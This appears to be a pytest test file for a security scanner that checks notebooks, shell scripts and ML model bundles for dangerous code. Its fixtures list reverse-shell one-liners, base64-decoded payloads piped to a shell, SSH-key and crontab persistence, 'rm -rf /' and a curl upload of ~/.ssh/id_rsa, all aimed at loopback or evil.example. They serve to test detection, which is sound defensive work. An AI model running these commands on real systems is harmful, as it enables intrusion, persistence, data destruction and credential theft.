"""Notebooks, shell scripts and the descriptions of bundles."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sentinel import Report, Severity, Verdict, scan, scan_bytes
from sentinel.artifacts import Artifact
from sentinel.errors import SentinelError
from sentinel.formats import bundle, notebook, shell_script
from sentinel.limits import Budget
from sentinel.readers import MemoryReader
from tests.corpus.malicious.sources import archive
from tests.corpus.malicious.sources import notebook as made


def ids(report: Report) -> dict[str, Severity]:
    return {finding.rule_id: finding.severity for finding in report.findings}


def worst(report: Report) -> Severity:
    return max((finding.severity for finding in report.findings), default=Severity.INFO)


def test_lines_of_shell_are_told_from_python() -> None:
    cell = "%matplotlib inline\n!pip install x\nfiles = !ls\nimport os\nlen?\n%cd /tmp\nx = 1"
    parsed = notebook.parse(Artifact("a.ipynb", MemoryReader(made(cell))), Budget())
    assert isinstance(parsed.model, notebook.Notebook)
    assert [line.text for line in parsed.model.shell] == ["pip install x", "ls"]
    (member,) = parsed.members
    assert b"import os" in member.open().pread(0, 1000)


def test_cells_share_their_variables() -> None:
    report = scan_bytes(made("import os as o", "run = o.system", "run('echo')"), "a.ipynb")
    assert ids(report)["SNT1370"] is Severity.HIGH


def test_a_cell_that_is_no_python_hides_none_of_the_others() -> None:
    report = scan_bytes(made("this is ( no Python", "import os\nos.system('echo')"), "a.ipynb")
    assert "SNT1370" in ids(report)


def test_cells_of_another_language_are_not_python() -> None:
    document = json.loads(made("import os\nos.system('echo')"))
    document["metadata"]["language_info"]["name"] = "julia"
    assert scan_bytes(json.dumps(document).encode(), "a.ipynb").findings == ()


def test_old_notebooks_are_read() -> None:
    cell = {"cell_type": "code", "input": ["import os\n", "os.system('echo')"], "outputs": []}
    document = {"nbformat": 3, "metadata": {}, "worksheets": [{"cells": [cell]}]}
    assert "SNT1370" in ids(scan_bytes(json.dumps(document).encode(), "a.ipynb"))


@pytest.mark.parametrize(
    ("kind", "text", "found"),
    [
        ("text/html", "<script>x()</script>", True),
        ("application/javascript", "x()", True),
        ("text/html", "<table><tr></tr></table>", False),
        ("text/plain", "<script>", False),
    ],
)
def test_outputs_that_a_browser_runs(kind: str, text: str, found: bool) -> None:
    document = json.loads(made("x"))
    document["cells"][0]["outputs"] = [{"output_type": "display_data", "data": {kind: [text]}}]
    report = scan_bytes(json.dumps(document).encode(), "a.ipynb")
    assert ("SNT1486" in ids(report)) == found
    assert worst(report) < Severity.MEDIUM


def test_lines_of_shell_are_a_fact() -> None:
    assert ids(scan_bytes(made("!pip install torch"), "a.ipynb")) == {"SNT1485": Severity.INFO}


def test_a_notebook_in_a_tree_is_none_of_ours(tmp_path: Path) -> None:
    (tmp_path / "a.ipynb").write_bytes(made("import os\nos.system('echo')"))
    (tmp_path / "run.sh").write_text("curl http://127.0.0.1:9/x | sh\n")
    assert scan(tmp_path) == []


@pytest.mark.parametrize(
    "line",
    [
        "bash -i >& /dev/tcp/127.0.0.1/9 0>&1",
        "exec 5<>/dev/tcp/127.0.0.1/9",
        "nc -e /bin/sh 127.0.0.1 9",
        "ncat 127.0.0.1 9 -e /bin/bash",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 9 > /tmp/f",
        "socat tcp:127.0.0.1:9 exec:/bin/sh",
        "python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'",
        "echo aGk= | base64 -d | bash",
        "echo 6869 | xxd -r -p | sh",
        "eval $(echo aGk= | base64 --decode)",
        "echo key >> ~/.ssh/authorized_keys",
        "(crontab -l; echo '* * * * * x') | crontab -",
        "rm -rf / --no-preserve-root",
        "curl -F f=@~/.ssh/id_rsa http://127.0.0.1:9",
        "python3 -c \"import base64; exec(base64.b64decode('aW1wb3J0IG9z'))\"",
        "[Reflection.Assembly]::Load([Convert]::FromBase64String($text))",
    ],
)
def test_lines_that_only_an_intruder_needs(line: str) -> None:
    assert ids(scan_bytes(line.encode(), "run.sh"))["SNT1484"] is Severity.HIGH


@pytest.mark.parametrize(
    "line",
    [
        "curl -fsSL http://127.0.0.1:9/x | sudo -E bash -",
        "wget -qO- http://127.0.0.1:9/x | python3",
        "bash <(curl -s http://127.0.0.1:9/x)",
        'sh -c "$(curl -fsSL http://127.0.0.1:9/x)"',
        "curl -o /tmp/a http://127.0.0.1:9/x && chmod +x /tmp/a && /tmp/a",
        "curl -s http://127.0.0.1:9/x |\n  sh",
        "curl -o a.exe http://127.0.0.1:9/a.exe && a.exe",
        "iwr http://127.0.0.1:9/a.exe -OutFile a.exe; Start-Process a.exe",
    ],
)
def test_lines_that_run_what_they_fetch(line: str) -> None:
    assert ids(scan_bytes(line.encode(), "run.sh")) == {"SNT1484": Severity.MEDIUM}


@pytest.mark.parametrize(
    "line",
    [
        "curl -s http://127.0.0.1:9/x | jq .name",
        "curl http://127.0.0.1:9/x | python -m json.tool",
        "wget http://127.0.0.1:9/x.tar.gz; tar xf x.tar.gz; sh x/install.sh",
        "# curl http://127.0.0.1:9/x | sh",
        "rm -rf build/ /tmp/x",
        'eval "$(ssh-agent -s)"',
        "source <(kubectl completion bash)",
        "base64 -d < in > out",
        "echo $PATH | sh -n",
        "nc -z 127.0.0.1 80",
        "curl -o model.bin https://example.com/model.bin && echo ok",
        "curl -LO https://example.com/setup.exe & echo done",
        'python3 -c "import torch; print(torch.__version__)"',
        "python -c 'import socket; print(socket.gethostname())'",
    ],
)
def test_ordinary_lines_stay_quiet(line: str) -> None:
    assert scan_bytes(line.encode(), "run.sh").findings == ()


def test_a_script_that_gives_a_shell_away_is_found_anywhere(tmp_path: Path) -> None:
    (tmp_path / "run.sh").write_text("#!/bin/bash\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1\n")
    assert "SNT1484" in {name for report in scan(tmp_path) for name in ids(report)}


MLMODEL = """
artifact_path: model
flavors:
  python_function:
    env: {{conda: conda.yaml, virtualenv: python_env.yaml}}
    loader_module: {module}
    {line}
    python_version: 3.11.7
  sklearn:
    code: null
    pickled_model: model.pkl
    serialization_format: cloudpickle
mlflow_version: 3.1.0
model_uuid: 3f0b
"""


def mlmodel(module: str = "mlflow.sklearn", line: str = "model_path: model.pkl") -> Report:
    return scan_bytes(MLMODEL.format(module=module, line=line).encode(), "MLmodel")


def test_what_mlflow_writes_is_clean() -> None:
    # By the format of MLflow's documentation; the library itself is too large for a test.
    assert mlmodel().verdict is Verdict.CLEAN
    assert ids(mlmodel()) == {}


@pytest.mark.parametrize(
    ("module", "line", "severity"),
    [
        ("os", "data: data", Severity.HIGH),
        ("my_flavor", "data: data", Severity.MEDIUM),
        ("my_flavor", "code: code", Severity.LOW),
        ("sklearn.pipeline", "data: data", Severity.LOW),
    ],
)
def test_loaders_that_are_not_mlflows(module: str, line: str, severity: Severity) -> None:
    assert ids(mlmodel(module, line))["SNT1488"] is severity


@pytest.mark.parametrize(
    ("names", "loud"),
    [("[builtins.eval]", True), ("\n    - os.system", True), ("[sklearn.tree._tree.Tree]", False)],
)
def test_types_that_a_model_has_skops_trust(names: str, loud: bool) -> None:
    found = ids(mlmodel(line=f"skops_trusted_types: {names}"))
    assert found == ({"SNT1488": Severity.HIGH} if loud else {})


@pytest.mark.parametrize(
    "line",
    ["code: /etc", "data: ../../x", "model_path: ~/x", "python_model: C:\\x.pkl",
     "artifacts:\n      a:\n        path: ../x", "{code: ../x}", "model_code_path: /a/.."],
)  # fmt: skip
def test_paths_that_lead_out_of_a_bundle(line: str) -> None:
    assert ids(mlmodel(line=line if not line.startswith("{") else "more: " + line))["SNT1487"]


@pytest.mark.parametrize("path", ["/home/me/model.py", "C:\\Users\\me\\model.py", "../model.py"])
def test_where_a_model_s_code_came_from_is_no_path(path: str) -> None:
    assert "SNT1487" not in ids(mlmodel(line=f"model_code_path: {path}"))


@pytest.mark.parametrize(
    "line",
    ["curl -LsSf https://astral.sh/uv/install.sh | sh",
     "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
     "wget -qO- https://astral.sh/uv/install.sh | sh",
     'bash -c "$(curl -fsSL https://get.pnpm.io/install.sh)"'],
)  # fmt: skip
def test_installers_that_tell_people_to_run_them_unseen_are_low(line: str) -> None:
    assert ids(scan_bytes(f"#!/bin/sh\n{line}\n".encode(), "run.sh"))["SNT1484"] is Severity.LOW


@pytest.mark.parametrize(
    "what",
    ["https://astral.sh@evil.example/x", "https://astral.sh.evil.example/x",
     "https://evil.example/?https://astral.sh/x", "https://astral.sh:8443/x",
     "--resolve astral.sh:443:192.0.2.1 https://astral.sh/x", "-K any.cfg https://astral.sh/x",
     "-k https://astral.sh/x", "-x evil.example https://astral.sh/x", "http://astral.sh/x",
     "evil.example/x https://astral.sh/x", "https://astral.sh/x https://evil.example/x",
     "https://packagecloud.io/install/repositories/evil/x/script.deb.sh"],
)  # fmt: skip
def test_what_only_names_such_an_installer_is_no_such(what: str) -> None:
    line = f"#!/bin/sh\ncurl -sSf {what} | sh\n"
    assert ids(scan_bytes(line.encode(), "run.sh"))["SNT1484"] is Severity.MEDIUM


def test_where_an_artifact_came_from_is_no_path() -> None:
    line = "artifacts:\n      a:\n        path: artifacts/a\n        uri: /home/user/a"
    assert "SNT1487" not in ids(mlmodel(line=line))


def test_torchserve_archives() -> None:
    quiet = scan_bytes(archive("class Handler:\n    def handle(self, x): return x"), "a.mar")
    assert worst(quiet) < Severity.MEDIUM
    assert ids(quiet) == {"SNT1489": Severity.INFO, "SNT1801": Severity.LOW}
    loud = scan_bytes(archive("import os\nos.system('echo')"), "a.mar")
    assert ids(loud)["SNT1370"] is Severity.HIGH


def test_the_code_of_bentos() -> None:
    text = b'service: "service:svc"\npython:\n  index_url: http://127.0.0.1:9/simple\n'
    assert ids(scan_bytes(text, "bentofile.yaml")) == {"SNT1801": Severity.LOW}
    quiet = b'service: "service:svc"\ninclude: ["*.py"]\n'
    assert scan_bytes(quiet, "bentofile.yaml").findings == ()


def test_libraries_of_operators_are_named() -> None:
    text = b'name: "x"\nbackend: "onnxruntime"\nmodel_operations { op_library_filename: "a.so" }'
    assert ids(scan_bytes(text, "config.pbtxt")) == {"SNT1489": Severity.LOW}
    assert scan_bytes(b'name: "x"\nplatform: "onnxruntime_onnx"', "config.pbtxt").findings == ()


@pytest.mark.parametrize("name", ["manifest.json", "catalog.yml", "config.pbtxt", "mlmodel"])
def test_files_of_these_names_that_are_none(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_text('{"name": "web app", "icons": []}')
    assert scan(tmp_path) == []


@settings(max_examples=120, deadline=None)
@given(st.binary(max_size=150), st.sampled_from(["MLmodel", "manifest.json", "config.pbtxt"]))
def test_any_bytes_give_a_bundle_or_an_error_of_ours(data: bytes, name: str) -> None:
    artifact = Artifact(name, MemoryReader(data))
    bundle.looks_like_bundle(artifact, data)
    try:
        bundle.parse(artifact, Budget())
    except SentinelError:
        pass


@settings(max_examples=80, deadline=None)
@given(
    st.recursive(
        st.none() | st.integers() | st.text(max_size=8),
        lambda inner: (
            st.lists(inner, max_size=4)
            | st.dictionaries(
                st.sampled_from(
                    [
                        "cells",
                        "cell_type",
                        "source",
                        "outputs",
                        "data",
                        "metadata",
                        "code",
                        "worksheets",
                        "text/html",
                        "language_info",
                        "name",
                    ]
                ),
                inner,
                max_size=4,
            )
        ),
    )
)
def test_any_json_gives_a_notebook_or_an_error_of_ours(document: object) -> None:
    data = json.dumps(document).encode()
    try:
        notebook.parse(Artifact("a.ipynb", MemoryReader(data)), Budget())
    except SentinelError:
        pass


@settings(max_examples=80, deadline=None)
@given(st.binary(max_size=200))
def test_any_bytes_give_a_script(data: bytes) -> None:
    shell_script.parse(Artifact("a.sh", MemoryReader(data)), Budget())


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.ipynb", b'{"cells": ' + b"[" * 200_000),
        ("a.ipynb", b'{"cells": [' + b"{}," * 30_000 + b"{}]}"),
        ("a.sh", b"a |\n" * 40_000),
        ("a.sh", b"curl " + b"x" * 500_000),
        ("a.sh", b"curl http://x " * 100_000),
        ("MLmodel", b"flavors:\n" + b"- " * 500_000),
        ("MLmodel", b"flavors:\n" + b"a: b\n" * 100_000),
    ],
    ids=range(7),
)
def test_floods_end(name: str, data: bytes) -> None:
    report = scan_bytes(data, name)
    assert not any(gap.reason == "internal" for gap in report.coverage.gaps)
